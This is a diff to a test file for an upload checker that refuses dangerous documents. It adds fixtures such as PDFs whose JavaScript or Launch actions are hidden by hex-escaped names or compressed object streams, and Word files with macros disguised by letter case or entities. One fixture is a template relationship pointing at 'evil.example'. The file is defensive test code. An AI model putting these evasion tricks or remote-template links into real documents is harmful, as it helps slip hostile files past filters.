@@ -1,17 +1,20 @@
-import { randomBytes } from 'node:crypto';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { deflateSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   compoundFile,
   doc,
   docx,
   docxEntries,
+  film,
   jpeg,
   pdf,
   png,
   program,
+  samsungNotes,
+  secondDisk,
   zip,
 } from '../../../testing/documents.ts';
 import { inspectDocument } from './inspect.ts';
@@ -44,6 +47,33 @@ const brokenWord = 'The file is no complete Word document. Save it again and upl
 const brokenJpeg = 'The file is no complete JPEG picture. Save it again and upload that';
 const brokenPng = 'The file is no complete PNG picture. Save it again and upload that';
 
+const scripts = 'PDFs with JavaScript are refused. Print it to a new PDF and upload that';
+const programs = 'PDFs that start programs are refused. Print it to a new PDF and upload that';
+const unreadablePdf =
+  "The PDF is packed in a way that can't be looked into. Print it to a new PDF and upload that";
+const disks =
+  'The Word document is part of an archive on several disks. Save it again and upload that';
+const wordMain = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+
+/** An object of a PDF that holds another one, packed. */
+const objectStream = (
+  object: string,
+  dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+): Buffer =>
+  joined(
+    `3 0 obj << ${dictionary} >> stream\r\n`,
+    deflateSync(Buffer.from(`2 0 ${object}`)),
+    '\nendstream endobj',
+  );
+
+/** What belongs to the settings of a Word document. */
+const relationships = (type: string, mode: string) => ({
+  name: 'word/_rels/settings.xml.rels',
+  data: Buffer.from(
+    `<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/a.dotm" ${mode}/></Relationships>`,
+  ),
+});
+
 const archive = zip([{ name: 'hello.txt', data: Buffer.from('hello') }]);
 const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
 
@@ -59,13 +89,42 @@ describe('a document', () => {
     ['a PDF that was saved twice', () => joined(pdf(), pdf().subarray(9)), 'application/pdf'],
     ['a PNG', png, 'image/png'],
     ['a JPEG', jpeg, 'image/jpeg'],
-    ['a JPEG with a depth picture after it', () => joined(jpeg(), jpeg()), 'image/jpeg'],
     [
-      'a JPEG with a film after it',
-      () => joined(jpeg(), '\0\0\0\u0018ftypmp42', randomBytes(99)),
+      'a JPEG with the depth picture that it announces',
+      () => joined(jpeg('MPF\0MM'), jpeg()),
       'image/jpeg',
     ],
-    ['a JPEG with notes after it', () => joined(jpeg(), randomBytes(99), 'SEFT'), 'image/jpeg'],
+    [
+      'a JPEG with the film that it announces',
+      () => joined(jpeg('MotionPhoto'), film()),
+      'image/jpeg',
+    ],
+    ['a JPEG with notes after it', () => joined(jpeg(), samsungNotes()), 'image/jpeg'],
+    [
+      'a JPEG with a picture and notes after it',
+      () => joined(jpeg('MPF\0MM'), jpeg(), samsungNotes()),
+      'image/jpeg',
+    ],
+    [
+      'a PDF with objects in a stream',
+      () => pdf(900, objectStream('<< /Type /Page >>')),
+      'application/pdf',
+    ],
+    [
+      'a PDF whose names only begin like actions',
+      () => pdf(900, '<< /LaunchPad /JavaScripts (about JavaScript) >>'),
+      'application/pdf',
+    ],
+    [
+      'a Word document with links',
+      () => docx([relationships('hyperlink', 'TargetMode="External"')]),
+      docxType,
+    ],
+    [
+      'a Word document with a template of its own',
+      () => docx([relationships('attachedTemplate', 'TargetMode="Internal"')]),
+      docxType,
+    ],
     ['a JPEG filled up with zeros', () => joined(jpeg(), Buffer.alloc(3000)), 'image/jpeg'],
     ['an old Word document', doc, 'application/msword'],
     ['a Word document', docx, docxType],
@@ -100,12 +159,113 @@ describe('refused is', () => {
       holdsMore,
     ],
 
+    ...(
+      [
+        ['JavaScript', scripts],
+        ['Java#53cript', scripts],
+        ['#4a#61#76#61#53#63#72#69#70#74', scripts],
+        ['Launch', programs],
+        ['Laun#63h', programs],
+      ] as const
+    ).flatMap(([name, message]): [string, () => Buffer, string][] => {
+      const action = `<< /Type /Action /S /${name} /JS (x) >>`;
+      const far = `%${'x'.repeat(1024 * 1024 - 90)}\n`;
+      return [
+        [`a PDF with the action ${name}`, () => pdf(900, `2 0 obj ${action} endobj`), message],
+        [
+          `a PDF with the action ${name} without blanks`,
+          () => pdf(900, `2 0 obj<</S/${name}/JS(x)>>endobj`),
+          message,
+        ],
+        [
+          `a PDF with the action ${name} in an object stream`,
+          () => pdf(900, objectStream(action)),
+          message,
+        ],
+        [
+          `a PDF with the action ${name} in an object stream without a type`,
+          () => pdf(900, objectStream(action, '/N 1 /First 4 /Filter [/FlateDecode]')),
+          message,
+        ],
+        [
+          `a PDF with the action ${name} in an object stream that isn't packed`,
+          () =>
+            pdf(
+              900,
+              `3 0 obj << /Type /ObjStm /N 1 /First 4 >> stream\n2 0 ${action}\nendstream endobj`,
+            ),
+          message,
+        ],
+        [
+          `a PDF with the action ${name} after a megabyte`,
+          () => joined(pdf(1_100_000, joined(far, objectStream(action)))),
+          message,
+        ],
+      ];
+    }),
+    [
+      'a PDF whose objects are packed twice',
+      () =>
+        pdf(
+          900,
+          objectStream('x', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]'),
+        ),
+      unreadablePdf,
+    ],
+    [
+      'a PDF whose objects unpack to too much',
+      () => pdf(60_000, objectStream(' '.repeat(20_000_000))),
+      unreadablePdf,
+    ],
+    [
+      'a PDF whose objects never end',
+      () => pdf(900, '3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n'),
+      unreadablePdf,
+    ],
+
     ['half a JPEG', () => jpeg().subarray(0, 40), brokenJpeg],
     ['a JPEG of nothing', () => Buffer.from('ffd8ffe0', 'hex'), brokenJpeg],
     [
       'a JPEG of endless empty segments',
       () => joined(jpeg().subarray(0, 20), Buffer.from('ffe00002'.repeat(200_000), 'hex')),
       brokenJpeg,
+    ],
+    ['a JPEG with another one after it', () => joined(jpeg(), jpeg()), holdsMore],
+    ['a JPEG with a film after it', () => joined(jpeg(), film()), holdsMore],
+    [
+      'a JPEG with a film and a program after it',
+      () => joined(jpeg('MotionPhoto'), film(), program()),
+      holdsMore,
+    ],
+    [
+      'a JPEG with pictures and a program after it',
+      () => joined(jpeg('MPF\0MM'), jpeg(), program()),
+      holdsMore,
+    ],
+    [
+      'a JPEG with twenty pictures after it',
+      () => joined(jpeg('MPF\0MM'), ...Array.from({ length: 20 }, () => jpeg())),
+      holdsMore,
+    ],
+    [
+      'a JPEG with a program that ends like notes',
+      () => joined(jpeg(), program(), 'SEFT'),
+      holdsMore,
+    ],
+    [
+      'a JPEG with a program before its notes',
+      () => joined(jpeg(), program(), samsungNotes()),
+      holdsMore,
+    ],
+    [
+      'a JPEG with a part of an archive after it',
+      () => joined(jpeg(), secondDisk(archive)),
+      holdsMore,
+    ],
+    [
+      'a JPEG with notes around a part of an archive',
+      () => joined(jpeg(), samsungNotes(secondDisk(archive))),
+      holdsMore,
     ],
     ['a JPEG with a program after it', () => joined(jpeg(), program()), holdsMore],
     [
@@ -142,6 +302,11 @@ describe('refused is', () => {
 
     ['an installer or a spreadsheet', () => compoundFile(['Workbook']), brokenWord],
     ['an old Word document with macros', () => compoundFile(['WordDocument', 'Macros']), macros],
+    [
+      'an old Word document with macros in other letters',
+      () => compoundFile(['WordDocument', 'MACROS']),
+      macros,
+    ],
     ['half an old Word document', () => doc().subarray(0, 700), brokenWord],
     ['an old Word document with an archive after it', () => joined(doc(), archive), holdsMore],
     [
@@ -173,6 +338,66 @@ describe('refused is', () => {
       'a Word document with macros',
       () => docx([{ name: 'word/vbaProject.bin', data: Buffer.from('Sub AutoOpen()') }]),
       macros,
+    ],
+    [
+      'a Word document with macros in other letters',
+      () => docx([{ name: 'Word/VBAPROJECT.BIN', data: Buffer.from('Sub AutoOpen()') }]),
+      macros,
+    ],
+    [
+      'a Word document with macros of another name',
+      () =>
+        zip(
+          docxEntries(`${wordMain}"/><Override ContentType="application/vnd.ms-office.VbaProject`),
+        ),
+      macros,
+    ],
+    [
+      'a Word document of the kind with macros in other letters',
+      () => zip(docxEntries('application/vnd.ms-word.document.MACROENABLED.main+xml')),
+      macros,
+    ],
+    [
+      'a Word document of the kind with macros, written in entities',
+      () => zip(docxEntries(`${wordMain}"/><Override ContentType="m&#97;cro&#x45;nabled`)),
+      macros,
+    ],
+    [
+      'a Word document with a control that runs code',
+      () => docx([{ name: 'word/activeX/activeX1.bin', data: Buffer.from('x') }]),
+      macros,
+    ],
+    [
+      'a Word document with a list of types besides',
+      () => docx([{ name: '[content_types].XML', data: Buffer.from('<Types/>') }]),
+      brokenWord,
+    ],
+    [
+      'a Word document whose parts are written in UTF-16',
+      () => docx([{ name: 'word/_rels/a.rels', data: Buffer.from('<Relationships/>', 'utf16le') }]),
+      brokenWord,
+    ],
+    ...(
+      [
+        ['', 'TargetMode="External"'],
+        ['in other letters', "targetmode = 'EXTERNAL'"],
+        ['in entities', 'TargetMode="&#69;xtern&#x61;l"'],
+      ] as const
+    ).map(([how, mode]): [string, () => Buffer, string] => [
+      `a Word document with a template from elsewhere ${how}`,
+      () => docx([relationships('attachedTemplate', mode)]),
+      'The Word document loads a template from elsewhere. Save it as PDF and upload that',
+    ]),
+    [
+      'a Word document with a picture from elsewhere',
+      () => docx([relationships('image', 'TargetMode="External"')]),
+      'The Word document loads parts from elsewhere. Save it as PDF and upload that',
+    ],
+    ['a Word document of several disks', () => secondDisk(docx()), disks],
+    [
+      'a Word document with a part on another disk',
+      () => docx([{ name: 'word/a.xml', data: Buffer.from('x'), disk: 1 }]),
+      disks,
     ],
     [
       'a Word document of the kind with macros',
